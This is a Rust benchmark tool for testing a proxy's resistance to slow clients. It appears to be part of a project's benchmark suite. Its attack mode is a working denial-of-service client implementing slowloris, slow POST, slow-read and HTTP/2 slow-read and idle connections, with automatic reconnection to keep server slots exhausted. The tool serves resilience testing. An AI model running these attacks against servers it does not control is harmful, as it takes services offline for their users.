//! Hostile clients for the slow-client benchmark (`bash benches/slowloris/run.sh`, issue #7):
//! many connections that each cost the attacker almost nothing and try to cost the server a
//! connection slot, a task, buffers or an upstream connection for as long as possible.
//!
//! `attack ADDR --mode MODE[,MODE…] --connections N`: opens N connections (at most
//! `--parallel` connecting at once) and keeps each in one of these states until the server
//! closes it:
//!
//! - `idle`: connects and sends nothing.
//! - `slowloris`: a request line and two headers, then one byte of an endless header every
//!   `--interval` (the head never ends).
//! - `slowpost`: a complete chat request head with `content-length: --post-length`, then one
//!   body byte every `--interval` (R.U.D.Y.).
//! - `slowread`: a receive buffer of `--rcvbuf` bytes, a complete streaming chat request with
//!   `x-slowloris-slowread: 1` (the benchmark routes it to a large-response upstream), then
//!   `--read-bytes` of the response read every `--interval`.
//! - `keepalive`: one complete small request whose response is read whole, then silence on the
//!   open keep-alive connection.
//! - `h2idle`: the HTTP/2 preface and an empty SETTINGS frame, then silence (SETTINGS and PING
//!   are acknowledged, as any HTTP/2 client library would).
//! - `h2slowread`: the slow reader over HTTP/2, one connection asking for `--streams` large
//!   answers at once: a receive buffer of `--rcvbuf` bytes, the preface, SETTINGS with the
//!   largest stream window (2^31-1) and a connection WINDOW_UPDATE to match, so flow control
//!   never holds the server back, `--streams` streaming chat requests (HEADERS and DATA), then
//!   `--read-bytes` read every `--interval`. What the server queues for it is bounded only by its
//!   own per-stream send buffer.
//!
//! With several modes, connection i uses mode i mod k. Like slowhttptest, a connection the
//! server closes is opened again after `--reconnect-delay` seconds (default 1; doubling up to
//! 16 s while the server refuses them at once; `--reconnect 0` never reopens), so the attack
//! holds N. Prints
//! `READY {json}` once the first N connections are open (or `--open-timeout` passed), then holds
//! until stdin reaches EOF (or `--max-hold` passed) and prints `DONE {json}`: per mode, how many
//! connections the server closed, how long they had lived, when (seconds since the attack
//! began), what the server sent first, and a per-second timeline of open connections.
//!
//! `upstream [ADDR] [--bytes B] [--sndbuf S]`: an upstream that answers every request with a
//! `text/event-stream` of B bytes of chat-completion chunks (default 1 MiB), written as fast as
//! the peer reads; HTTP/1.1 and h2c on one port; `--sndbuf` sets its sockets' SO_SNDBUF
//! (default: the kernel's autotuning). A slow reader's response is then larger than
//! every socket buffer on the way, so the proxy in the middle must hold its upstream
//! connection while it waits.
//!
//! One current-thread tokio runtime: the attacker uses at most one core.

use std::collections::BTreeMap;
use std::convert::Infallible;
use std::error::Error;
use std::io::Write;
use std::net::SocketAddr;
use std::pin::Pin;
use std::process::ExitCode;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, MutexGuard};
use std::task::{Context, Poll};
use std::time::Duration;

use bytes::Bytes;
use http::{Request, Response, StatusCode};
use http_body_util::BodyExt;
use hyper::body::{Frame, Incoming};
use hyper::service::service_fn;
use hyper_util::rt::{TokioExecutor, TokioIo};
use hyper_util::server::conn::auto;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::{mpsc, oneshot, Semaphore};
use tokio::time::{sleep, sleep_until, timeout_at, Instant};

type BoxError = Box<dyn Error + Send + Sync>;

const CHAT_BODY: &str =
    r#"{"model":"gpt-4o","messages":[{"role":"user","content":"Hello! How are you today?"}]}"#;
const STREAM_BODY: &str = r#"{"model":"gpt-4o","stream":true,"messages":[{"role":"user","content":"Write a very long story."}]}"#;
/// The header the benchmark's routing rule sends to the large-response upstream.
const SLOWREAD_HEADER: &str = "x-slowloris-slowread";
/// The HTTP/2 connection preface followed by an empty SETTINGS frame.
const H2_HELLO: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
/// Bytes of what the server sent first that a report keeps.
const KEEP: usize = 160;

#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
enum Mode {
    Idle,
    Slowloris,
    SlowPost,
    SlowRead,
    KeepAlive,
    H2Idle,
    H2SlowRead,
}

impl Mode {
    fn parse(s: &str) -> Result<Mode, BoxError> {
        Ok(match s {
            "idle" => Mode::Idle,
            "slowloris" => Mode::Slowloris,
            "slowpost" => Mode::SlowPost,
            "slowread" => Mode::SlowRead,
            "keepalive" => Mode::KeepAlive,
            "h2idle" => Mode::H2Idle,
            "h2slowread" => Mode::H2SlowRead,
            _ => return Err(format!("unknown mode {s}").into()),
        })
    }

    fn name(self) -> &'static str {
        match self {
            Mode::Idle => "idle",
            Mode::Slowloris => "slowloris",
            Mode::SlowPost => "slowpost",
            Mode::SlowRead => "slowread",
            Mode::KeepAlive => "keepalive",
            Mode::H2Idle => "h2idle",
            Mode::H2SlowRead => "h2slowread",
        }
    }
}

/// `--name value` options after the subcommand (and its optional address).
struct Args {
    addr: Option<SocketAddr>,
    opts: BTreeMap<String, String>,
}

impl Args {
    fn parse(rest: &[String]) -> Result<Args, BoxError> {
        let mut it = rest.iter().peekable();
        let addr = match it.peek() {
            Some(a) if !a.starts_with("--") => {
                let a = it.next().map(String::as_str).unwrap_or_default();
                Some(a.parse().map_err(|e| format!("ADDR {a}: {e}"))?)
            }
            _ => None,
        };
        let mut opts = BTreeMap::new();
        while let Some(flag) = it.next() {
            let name = flag
                .strip_prefix("--")
                .ok_or_else(|| format!("unexpected argument {flag}"))?;
            let value = it.next().ok_or_else(|| format!("{flag} needs a value"))?;
            opts.insert(name.to_owned(), value.clone());
        }
        Ok(Args { addr, opts })
    }

    fn num<T: std::str::FromStr>(&self, name: &str, default: T) -> Result<T, BoxError>
    where
        T::Err: std::fmt::Display,
    {
        match self.opts.get(name) {
            None => Ok(default),
            Some(v) => v.parse().map_err(|e| format!("--{name} {v}: {e}").into()),
        }
    }
}

/// Writes one line to stdout and flushes it.
fn emit(line: &str) -> std::io::Result<()> {
    let mut out = std::io::stdout().lock();
    writeln!(out, "{line}")?;
    out.flush()
}

// ---- attack ------------------------------------------------------------------------------

/// What every connection needs to know.
struct Plan {
    addr: SocketAddr,
    authority: String,
    path: String,
    interval: Duration,
    post_length: u64,
    rcvbuf: u32,
    read_bytes: usize,
    /// Streams an `h2slowread` connection opens.
    streams: u32,
    reconnect: bool,
    /// Pause before a closed slot is opened again.
    reconnect_delay: Duration,
    t0: Instant,
    /// Response bytes the slow readers have read, all together.
    read_total: AtomicU64,
}

/// How a connection ended.
struct Ended {
    /// `eof`, `reset`, `write_error` or `goaway`.
    how: &'static str,
    /// The start of what the server sent since the request (or the connection) began.
    first: Vec<u8>,
}

/// One mode's tally.
#[derive(Default)]
struct ModeStats {
    /// Connections opened, reconnections included.
    opened: u64,
    open_now: u64,
    connect_failures: u64,
    first_error: Option<String>,
    /// Closed by the server: lifetime (s) and when (s since the attack began).
    lifetimes: Vec<f64>,
    closed_at: Vec<f64>,
    /// How they ended and what the server sent first, by description.
    endings: BTreeMap<String, u64>,
}

#[derive(Default)]
struct Stats {
    modes: BTreeMap<Mode, ModeStats>,
}

fn lock(stats: &Mutex<Stats>) -> MutexGuard<'_, Stats> {
    stats
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
}

/// A short description of a server's first bytes: its status line, a GOAWAY, or nothing.
fn describe(ended: &Ended) -> String {
    let what = if ended.first.is_empty() {
        "nothing".to_owned()
    } else if ended.how == "goaway" {
        String::from_utf8_lossy(&ended.first).into_owned()
    } else if ended.first.starts_with(&[0]) {
        // Binary: HTTP/2 frames (their 24-bit length starts with a zero byte).
        "HTTP/2 frames".to_owned()
    } else {
        let text = String::from_utf8_lossy(&ended.first);
        text.lines().next().unwrap_or_default().to_owned()
    };
    format!("{}: {}", ended.how, what)
}

fn keep(first: &mut Vec<u8>, data: &[u8]) {
    let room = KEEP.saturating_sub(first.len());
    first.extend_from_slice(&data[..data.len().min(room)]);
}

fn classify_read_error(e: &std::io::Error) -> &'static str {
    match e.kind() {
        std::io::ErrorKind::ConnectionReset | std::io::ErrorKind::ConnectionAborted => "reset",
        _ => "read_error",
    }
}

/// Connects; for `slowread`, with a small receive buffer (set before connecting, so that the
/// advertised window is small from the start).
async fn connect(plan: &Plan, mode: Mode) -> std::io::Result<TcpStream> {
    let socket = if plan.addr.is_ipv4() {
        TcpSocket::new_v4()?
    } else {
        TcpSocket::new_v6()?
    };
    if matches!(mode, Mode::SlowRead | Mode::H2SlowRead) {
        socket.set_recv_buffer_size(plan.rcvbuf)?;
    }
    let stream = socket.connect(plan.addr).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

fn head(plan: &Plan, method: &str, extra: &str) -> String {
    format!(
        "{method} {} HTTP/1.1\r\nhost: {}\r\nuser-agent: slowloris-bench\r\n{extra}",
        plan.path, plan.authority
    )
}

/// The bytes sent at once when a connection opens.
fn opening(plan: &Plan, mode: Mode) -> Vec<u8> {
    match mode {
        Mode::Idle => Vec::new(),
        // The head never ends: the next bytes are an endless header value.
        Mode::Slowloris => {
            head(plan, "POST", "content-type: application/json\r\nx-a: ").into_bytes()
        }
        Mode::SlowPost => head(
            plan,
            "POST",
            &format!(
                "content-type: application/json\r\ncontent-length: {}\r\n\r\n",
                plan.post_length
            ),
        )
        .into_bytes(),
        Mode::SlowRead => {
            let mut h = head(
                plan,
                "POST",
                &format!(
                    "content-type: application/json\r\n{SLOWREAD_HEADER}: 1\r\ncontent-length: {}\r\n\r\n",
                    STREAM_BODY.len()
                ),
            );
            h.push_str(STREAM_BODY);
            h.into_bytes()
        }
        Mode::KeepAlive => {
            let mut h = head(
                plan,
                "POST",
                &format!(
                    "content-type: application/json\r\ncontent-length: {}\r\n\r\n",
                    CHAT_BODY.len()
                ),
            );
            h.push_str(CHAT_BODY);
            h.into_bytes()
        }
        Mode::H2Idle => H2_HELLO.to_vec(),
        Mode::H2SlowRead => h2_slow_read_opening(plan),
    }
}

/// An HTTP/2 frame: the 9-byte header, then `payload`.
fn h2_frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len();
    out.extend_from_slice(&[(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// HPACK: a literal header field without indexing, with a literal name, no Huffman coding
/// (RFC 7541 §6.2.2); names and values here are shorter than 127 bytes.
fn hpack_literal(out: &mut Vec<u8>, name: &str, value: &str) {
    out.push(0);
    out.push(name.len() as u8);
    out.extend_from_slice(name.as_bytes());
    out.push(value.len() as u8);
    out.extend_from_slice(value.as_bytes());
}

/// The preface, SETTINGS (INITIAL_WINDOW_SIZE 2^31-1), a connection WINDOW_UPDATE to 2^31-1,
/// and `plan.streams` streaming chat requests to the slow-read route.
fn h2_slow_read_opening(plan: &Plan) -> Vec<u8> {
    const MAX_WINDOW: u32 = 0x7fff_ffff;
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let mut settings = vec![0, 4];
    settings.extend_from_slice(&MAX_WINDOW.to_be_bytes());
    h2_frame(&mut out, 4, 0, 0, &settings);
    h2_frame(&mut out, 8, 0, 0, &(MAX_WINDOW - 65_535).to_be_bytes());
    let mut block = Vec::new();
    for (name, value) in [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", plan.path.as_str()),
        (":authority", plan.authority.as_str()),
        ("content-type", "application/json"),
        ("user-agent", "slowloris-bench"),
        (SLOWREAD_HEADER, "1"),
    ] {
        hpack_literal(&mut block, name, value);
    }
    for i in 0..plan.streams {
        let stream = 2 * i + 1;
        // HEADERS with END_HEADERS, then the body in one DATA frame with END_STREAM.
        h2_frame(&mut out, 1, 0x4, stream, &block);
        h2_frame(&mut out, 0, 0x1, stream, STREAM_BODY.as_bytes());
    }
    out
}

/// The trickled byte number `i` of a mode that trickles.
fn trickle_byte(mode: Mode, i: u64) -> u8 {
    match mode {
        // An endless header value.
        Mode::Slowloris => b'a' + (i % 26) as u8,
        // A JSON body that never ends: `{"model":"gpt-4o","messages":[{"role":"user","content":"aaaa…
        _ => {
            const START: &[u8] = br#"{"model":"gpt-4o","messages":[{"role":"user","content":""#;
            usize::try_from(i)
                .ok()
                .and_then(|i| START.get(i).copied())
                .unwrap_or(b'a')
        }
    }
}

/// Waits until the server closes, sending one byte every interval (slowloris, slowpost) or
/// nothing (idle, keepalive).
async fn hold_trickling(
    stream: &mut TcpStream,
    mode: Mode,
    plan: &Plan,
    phase: Duration,
    first: &mut Vec<u8>,
) -> &'static str {
    let (mut rd, mut wr) = stream.split();
    let mut buf = [0u8; 1024];
    let trickles = matches!(mode, Mode::Slowloris | Mode::SlowPost);
    let mut next = Instant::now() + phase;
    let mut sent = 0u64;
    loop {
        tokio::select! {
            r = rd.read(&mut buf) => match r {
                Ok(0) => return "eof",
                Ok(n) => keep(first, &buf[..n]),
                Err(e) => return classify_read_error(&e),
            },
            _ = sleep_until(next), if trickles => {
                if wr.write_all(&[trickle_byte(mode, sent)]).await.is_err() {
                    return "write_error";
                }
                sent += 1;
                next += plan.interval;
            }
        }
    }
}

/// Reads a whole HTTP/1.1 response with a `content-length` (the keepalive mode's one request).
async fn read_response(stream: &mut TcpStream, first: &mut Vec<u8>) -> Result<(), &'static str> {
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        if let Some(end) = got.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&got[..end]).to_ascii_lowercase();
            let len = head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .and_then(|v| v.trim().parse::<usize>().ok());
            if let Some(len) = len {
                if got.len() >= end + 4 + len {
                    return Ok(());
                }
            }
        }
        match stream.read(&mut buf).await {
            Ok(0) => return Err("eof"),
            Ok(n) => {
                keep(first, &buf[..n]);
                got.extend_from_slice(&buf[..n]);
            }
            Err(e) => return Err(classify_read_error(&e)),
        }
    }
}

/// Reads `read_bytes` every interval until the server closes.
async fn hold_reading_slowly(
    stream: &mut TcpStream,
    plan: &Plan,
    phase: Duration,
    first: &mut Vec<u8>,
) -> &'static str {
    let mut buf = vec![0u8; plan.read_bytes.max(1)];
    sleep(phase).await;
    loop {
        // A reset (the server's send timeout) is pending on the socket at once, while what
        // the receive buffer still holds would take minutes to read 64 bytes at a time.
        if let Ok(Some(e)) = stream.take_error() {
            return classify_read_error(&e);
        }
        match stream.read(&mut buf).await {
            Ok(0) => return "eof",
            Ok(n) => {
                keep(first, &buf[..n]);
                plan.read_total.fetch_add(n as u64, Ordering::Relaxed);
            }
            Err(e) => return classify_read_error(&e),
        }
        sleep(plan.interval).await;
    }
}

/// HTTP/2 after the preface: acknowledges SETTINGS and PING, never opens a stream, and waits
/// until the server goes away.
async fn hold_h2(stream: &mut TcpStream, first: &mut Vec<u8>) -> &'static str {
    let mut pending: Vec<u8> = Vec::new();
    let mut buf = [0u8; 4096];
    let mut goaway = false;
    loop {
        match stream.read(&mut buf).await {
            Ok(0) => return if goaway { "goaway" } else { "eof" },
            Ok(n) => pending.extend_from_slice(&buf[..n]),
            Err(e) => {
                return if goaway {
                    "goaway"
                } else {
                    classify_read_error(&e)
                }
            }
        }
        while pending.len() >= 9 {
            let len = (usize::from(pending[0]) << 16)
                | (usize::from(pending[1]) << 8)
                | usize::from(pending[2]);
            if pending.len() < 9 + len {
                break;
            }
            let (kind, flags) = (pending[3], pending[4]);
            let payload = pending[9..9 + len].to_vec();
            pending.drain(..9 + len);
            let reply: Option<Vec<u8>> = match kind {
                // SETTINGS without ACK.
                4 if flags & 1 == 0 => Some(vec![0, 0, 0, 4, 1, 0, 0, 0, 0]),
                // PING without ACK: the same 8 bytes back with ACK.
                6 if flags & 1 == 0 => {
                    let mut r = vec![0, 0, 8, 6, 1, 0, 0, 0, 0];
                    r.extend_from_slice(&payload);
                    Some(r)
                }
                7 => {
                    goaway = true;
                    if first.is_empty() {
                        let code = payload
                            .get(4..8)
                            .map(|c| u32::from_be_bytes([c[0], c[1], c[2], c[3]]))
                            .unwrap_or(0);
                        first.extend_from_slice(format!("GOAWAY error code {code}").as_bytes());
                    }
                    None
                }
                _ => None,
            };
            if let Some(reply) = reply {
                if stream.write_all(&reply).await.is_err() {
                    return if goaway { "goaway" } else { "write_error" };
                }
            }
        }
    }
}

/// One hostile connection slot: open, hold until the server closes, record, open again.
async fn slot(
    id: u64,
    mode: Mode,
    plan: Arc<Plan>,
    gate: Arc<Semaphore>,
    stats: Arc<Mutex<Stats>>,
    ready: mpsc::UnboundedSender<Result<(), String>>,
) {
    let mut initial = true;
    let mut backoff = plan.reconnect_delay;
    // Spreads the trickled bytes over the interval instead of sending them in lockstep.
    let phase = plan.interval.mul_f64((id % 1000) as f64 / 1000.0);
    loop {
        let Ok(permit) = gate.clone().acquire_owned().await else {
            return;
        };
        let started = Instant::now();
        let connected = async {
            let mut stream = connect(&plan, mode).await?;
            let opening = opening(&plan, mode);
            if !opening.is_empty() {
                stream.write_all(&opening).await?;
            }
            Ok::<_, std::io::Error>(stream)
        }
        .await;
        drop(permit);
        let mut stream = match connected {
            Ok(stream) => stream,
            Err(e) => {
                {
                    let mut s = lock(&stats);
                    let m = s.modes.entry(mode).or_default();
                    m.connect_failures += 1;
                    m.first_error.get_or_insert_with(|| e.to_string());
                }
                if initial {
                    let _ = ready.send(Err(e.to_string()));
                    initial = false;
                }
                if !plan.reconnect {
                    return;
                }
                sleep(Duration::from_millis(500)).await;
                continue;
            }
        };
        {
            let mut s = lock(&stats);
            let m = s.modes.entry(mode).or_default();
            m.opened += 1;
            m.open_now += 1;
        }
        if initial {
            let _ = ready.send(Ok(()));
            initial = false;
        }
        let mut first = Vec::new();
        let how = match mode {
            Mode::Idle | Mode::Slowloris | Mode::SlowPost => {
                hold_trickling(&mut stream, mode, &plan, phase, &mut first).await
            }
            Mode::KeepAlive => match read_response(&mut stream, &mut first).await {
                Ok(()) => {
                    // What the server sends from now on is what ends the keep-alive.
                    first.clear();
                    hold_trickling(&mut stream, mode, &plan, phase, &mut first).await
                }
                Err(how) => how,
            },
            Mode::SlowRead | Mode::H2SlowRead => {
                hold_reading_slowly(&mut stream, &plan, phase, &mut first).await
            }
            Mode::H2Idle => hold_h2(&mut stream, &mut first).await,
        };
        drop(stream);
        let ended = Ended { how, first };
        {
            let now = Instant::now();
            let mut s = lock(&stats);
            let m = s.modes.entry(mode).or_default();
            m.open_now -= 1;
            m.lifetimes.push(now.duration_since(started).as_secs_f64());
            m.closed_at.push(now.duration_since(plan.t0).as_secs_f64());
            *m.endings.entry(describe(&ended)).or_default() += 1;
        }
        if !plan.reconnect {
            return;
        }
        // Like slowhttptest, a closed slot is opened again, after a pause; a connection the
        // server refused at once (max_connections) backs off further, so that the attack
        // holds slots rather than turning into a connection flood.
        if started.elapsed() < Duration::from_secs(1) {
            backoff = (backoff * 2).min(MAX_BACKOFF);
        } else {
            backoff = plan.reconnect_delay;
        }
        sleep(backoff).await;
    }
}

/// The longest pause before a refused connection is opened again.
const MAX_BACKOFF: Duration = Duration::from_secs(16);

/// Nearest-rank percentile of sorted values.
fn percentile(sorted: &[f64], p: f64) -> Option<f64> {
    if sorted.is_empty() {
        return None;
    }
    let rank = (p / 100.0 * sorted.len() as f64).ceil() as usize;
    sorted.get(rank.clamp(1, sorted.len()) - 1).copied()
}

fn round3(v: f64) -> f64 {
    (v * 1000.0).round() / 1000.0
}

fn summary(stats: &Stats) -> Value {
    let mut out = serde_json::Map::new();
    for (mode, m) in &stats.modes {
        let mut life = m.lifetimes.clone();
        life.sort_by(f64::total_cmp);
        let mut at = m.closed_at.clone();
        at.sort_by(f64::total_cmp);
        let p = |v: &[f64], q: f64| percentile(v, q).map(round3);
        out.insert(
            mode.name().to_owned(),
            json!({
                "opened": m.opened,
                "open_now": m.open_now,
                "connect_failures": m.connect_failures,
                "first_error": m.first_error,
                "closed_by_server": m.lifetimes.len(),
                "lifetime_s": { "min": p(&life, 0.0), "p50": p(&life, 50.0), "p99": p(&life, 99.0), "max": life.last().copied().map(round3) },
                "closed_at_s": { "first": at.first().copied().map(round3), "p50": p(&at, 50.0), "last": at.last().copied().map(round3) },
                "endings": m.endings,
            }),
        );
    }
    Value::Object(out)
}

async fn attack(args: Args) -> Result<(), BoxError> {
    let addr = args.addr.ok_or("attack needs ADDR")?;
    let n: u64 = args.num("connections", 10_000)?;
    let parallel: usize = args.num("parallel", 200)?;
    let modes = args
        .opts
        .get("mode")
        .map_or("idle", String::as_str)
        .split(',')
        .map(Mode::parse)
        .collect::<Result<Vec<_>, _>>()?;
    let open_timeout = Duration::from_secs_f64(args.num("open-timeout", 30.0)?);
    let max_hold = Duration::from_secs_f64(args.num("max-hold", 300.0)?);
    let t0 = Instant::now();
    let plan = Arc::new(Plan {
        addr,
        authority: addr.to_string(),
        path: args
            .opts
            .get("path")
            .cloned()
            .unwrap_or_else(|| "/v1/chat/completions".to_owned()),
        interval: Duration::from_secs_f64(args.num("interval", 5.0)?),
        post_length: args.num("post-length", 1024 * 1024)?,
        rcvbuf: args.num("rcvbuf", 4096)?,
        read_bytes: args.num("read-bytes", 64)?,
        streams: args.num::<u32>("streams", 16)?.clamp(1, 1000),
        reconnect: args.num::<u8>("reconnect", 1)? != 0,
        reconnect_delay: Duration::from_secs_f64(args.num("reconnect-delay", 1.0)?),
        t0,
        read_total: AtomicU64::new(0),
    });
    let gate = Arc::new(Semaphore::new(parallel.max(1)));
    let stats = Arc::new(Mutex::new(Stats::default()));
    for m in &modes {
        lock(&stats).modes.entry(*m).or_default();
    }
    let (ready_tx, mut ready_rx) = mpsc::unbounded_channel();
    let k = modes.len() as u64;
    let mut tasks = Vec::new();
    for id in 0..n {
        let mode = modes[usize::try_from(id % k).unwrap_or(0)];
        tasks.push(tokio::spawn(slot(
            id,
            mode,
            plan.clone(),
            gate.clone(),
            stats.clone(),
            ready_tx.clone(),
        )));
    }
    drop(ready_tx);
    let (mut opened, mut failed, mut first_error) = (0u64, 0u64, None);
    while opened + failed < n {
        match timeout_at(t0 + open_timeout, ready_rx.recv()).await {
            Ok(Some(Ok(()))) => opened += 1,
            Ok(Some(Err(e))) => {
                failed += 1;
                first_error.get_or_insert(e);
            }
            Ok(None) | Err(_) => break,
        }
    }
    let open_now: u64 = lock(&stats).modes.values().map(|m| m.open_now).sum();
    let ready = json!({
        "connections": n,
        "modes": modes.iter().map(|m| m.name()).collect::<Vec<_>>(),
        "opened": opened,
        "failed": failed,
        "pending": n - opened - failed,
        "open_now": open_now,
        "seconds": round3(t0.elapsed().as_secs_f64()),
        "first_error": first_error,
    });
    emit(&format!("READY {ready}"))?;
    // Hold until stdin ends, sampling the open connections once a second.
    let (eof_tx, mut eof_rx) = oneshot::channel();
    std::thread::spawn(move || {
        let _ = std::io::copy(&mut std::io::stdin().lock(), &mut std::io::sink());
        let _ = eof_tx.send(());
    });
    let mut timeline = Vec::new();
    let mut tick = tokio::time::interval(Duration::from_secs(1));
    let stop = Instant::now() + max_hold;
    let stdin_eof = loop {
        tokio::select! {
            _ = &mut eof_rx => break true,
            _ = sleep_until(stop) => break false,
            _ = tick.tick() => {
                let s = lock(&stats);
                let open: u64 = s.modes.values().map(|m| m.open_now).sum();
                let closed: usize = s.modes.values().map(|m| m.lifetimes.len()).sum();
                timeline.push(json!([round3(t0.elapsed().as_secs_f64()), open, closed]));
            }
        }
    };
    let done = json!({
        "held_seconds": round3(t0.elapsed().as_secs_f64()),
        "stdin_eof": stdin_eof,
        "modes": summary(&lock(&stats)),
        "slowread_bytes_read": plan.read_total.load(Ordering::Relaxed),
        "timeline": timeline,
    });
    emit(&format!("DONE {done}"))?;
    for t in tasks {
        t.abort();
    }
    Ok(())
}

// ---- upstream ----------------------------------------------------------------------------

/// A response body of `left` bytes, served in copies of one pre-built chunk.
struct Big {
    chunk: Bytes,
    left: usize,
}

impl hyper::body::Body for Big {
    type Data = Bytes;
    type Error = Infallible;

    fn poll_frame(
        mut self: Pin<&mut Self>,
        _cx: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        if self.left == 0 {
            return Poll::Ready(None);
        }
        let n = self.left.min(self.chunk.len());
        self.left -= n;
        Poll::Ready(Some(Ok(Frame::data(self.chunk.slice(..n)))))
    }
}

/// About 16 KiB of whole SSE chat-completion chunks.
fn sse_chunk() -> Bytes {
    let event = "data: {\"id\":\"chatcmpl-slow\",\"object\":\"chat.completion.chunk\",\"created\":1700000000,\"model\":\"gpt-4o\",\"choices\":[{\"index\":0,\"delta\":{\"content\":\" lorem ipsum dolor sit amet\"},\"finish_reason\":null}]}\n\n";
    Bytes::from(event.repeat(16 * 1024 / event.len()))
}

async fn upstream(args: Args) -> Result<(), BoxError> {
    let addr = args
        .addr
        .unwrap_or_else(|| SocketAddr::from(([127, 0, 0, 1], 0)));
    let bytes: usize = args.num("bytes", 1024 * 1024)?;
    let sndbuf: u32 = args.num("sndbuf", 0)?;
    let socket = if addr.is_ipv4() {
        TcpSocket::new_v4()?
    } else {
        TcpSocket::new_v6()?
    };
    socket.set_reuseaddr(true)?;
    if sndbuf > 0 {
        // Accepted sockets inherit it: a remote provider's send buffers are not in this
        // machine's TCP memory, so the benchmark keeps the mock's small.
        socket.set_send_buffer_size(sndbuf)?;
    }
    socket.bind(addr)?;
    let listener = socket.listen(4096)?;
    emit(&format!("listening on {}", listener.local_addr()?))?;
    let chunk = sse_chunk();
    let mut builder = auto::Builder::new(TokioExecutor::new());
    builder.http2().max_concurrent_streams(100_000);
    loop {
        let (stream, _) = match listener.accept().await {
            Ok(conn) => conn,
            Err(e) => {
                eprintln!("accept: {e}");
                sleep(Duration::from_millis(10)).await;
                continue;
            }
        };
        let _ = stream.set_nodelay(true);
        let builder = builder.clone();
        let chunk = chunk.clone();
        tokio::spawn(async move {
            let service = service_fn(move |req: Request<Incoming>| {
                let chunk = chunk.clone();
                async move {
                    let _ = req.into_body().collect().await;
                    let mut resp = Response::new(Big { chunk, left: bytes });
                    *resp.status_mut() = StatusCode::OK;
                    resp.headers_mut().insert(
                        http::header::CONTENT_TYPE,
                        http::HeaderValue::from_static("text/event-stream"),
                    );
                    Ok::<_, Infallible>(resp)
                }
            });
            let _ = builder
                .serve_connection(TokioIo::new(stream), service)
                .await;
        });
    }
}

fn main() -> ExitCode {
    let argv: Vec<String> = std::env::args().collect();
    let runtime = match tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
    {
        Ok(rt) => rt,
        Err(e) => {
            eprintln!("slowloris: cannot start the runtime: {e}");
            return ExitCode::FAILURE;
        }
    };
    let result = match argv.get(1).map(String::as_str) {
        Some("attack") => Args::parse(&argv[2..]).map(|a| runtime.block_on(attack(a))),
        Some("upstream") => Args::parse(&argv[2..]).map(|a| runtime.block_on(upstream(a))),
        _ => Err("usage: slowloris attack ADDR --mode MODE[,MODE…] [--connections N] … | slowloris upstream [ADDR] [--bytes B]".into()),
    }
    .and_then(|r| r);
    // Dropping the runtime closes every connection still open.
    drop(runtime);
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("slowloris: {e}");
            ExitCode::FAILURE
        }
    }
}
